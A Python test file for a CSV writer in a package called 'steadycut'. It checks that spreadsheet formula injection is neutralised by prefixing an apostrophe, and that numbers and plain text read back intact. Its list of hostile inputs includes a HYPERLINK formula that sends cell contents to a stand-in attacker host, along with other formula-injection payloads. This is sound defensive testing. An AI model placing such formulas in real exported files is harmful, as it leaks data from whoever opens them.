"""No cell of a CSV file is a formula, and everything else reads back as it was."""

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

import steadycut
from steadycut.io.safe_csv import csv_bytes
from steadycut.rule_reader import FORMULA, safe_cell

SOURCES = Path(steadycut.__file__).parent
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-1+1",
    "-5 mm",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "+",
    "--5",
    "-5\n",
    "-٣",
    "-inf",
    "-1_0",
    "-0x10",
    "-1\r=1",
]


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_a_text(text):
    assert safe_cell(text) == f"'{text}"
    assert rows_of(csv_bytes({"patient": [text]})) == [["patient"], [f"'{text}"]]


@pytest.mark.parametrize(
    "text", ["-5", "+3.2e1", "-.5", "+5.", "-1E-9", "A-1", "7", "", " =1", "a=b"]
)
def test_plain_numbers_and_plain_texts_stay(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, -0.25, -1e-300, float("inf"), True, None])
def test_what_is_no_text_stays(number):
    assert safe_cell(number) is number


@pytest.mark.parametrize("inner", ["a\r=1", "a\n=1", "a,=1", 'a",=1'])
def test_no_cell_breaks_out_into_a_row_or_a_cell_of_its_own(inner):
    assert rows_of(csv_bytes({"a": [inner], "b": [1]})) == [["a", "b"], [inner, "1"]]


def test_the_name_of_a_column_is_a_cell_too():
    assert csv_bytes({"=cmd": [1]}) == b"'=cmd\n1\n"


@given(st.lists(st.text(max_size=8), min_size=1))
def test_no_cell_is_live_and_no_text_is_lost(texts):
    _, *rows = rows_of(
        csv_bytes({"patient": np.array(texts, dtype=object), "n": [-1] * len(texts)})
    )
    cells = [row[0] for row in rows]
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
    assert all(not cell.startswith(FORMULA) or number.fullmatch(cell) for cell in cells)
    assert [
        cell if cell == text else cell[1:] for cell, text in zip(cells, texts, strict=True)
    ] == texts


def test_numbers_read_back_to_the_last_bit():
    numbers = np.array([0.1, -1 / 3, 1e-300, 5e22])
    _, *rows = rows_of(csv_bytes({"score": numbers}))
    assert [float(row[0]) for row in rows] == numbers.tolist()


def test_no_other_file_writes_csv():
    writers = [
        path.relative_to(SOURCES).as_posix()
        for path in SOURCES.rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|\.to_csv\(|write_csv", path.read_text("utf-8"))
    ]
    # The reader of frozen files stands alone; `csv_bytes` uses its function.
    assert sorted(writers) == ["rule_reader.py"]


@given(st.lists(st.text("'=+-@\t1a.", max_size=5), min_size=2, unique=True))
def test_no_two_texts_become_one(texts):
    cells = [safe_cell(text) for text in texts]
    assert len(set(cells)) == len(texts)
    # Whoever reads the file takes one apostrophe off what begins like a formula behind it.
    assert [
        cell[1:] if cell[:1] == "'" and cell.lstrip("'").startswith(FORMULA) else cell
        for cell in cells
    ] == texts
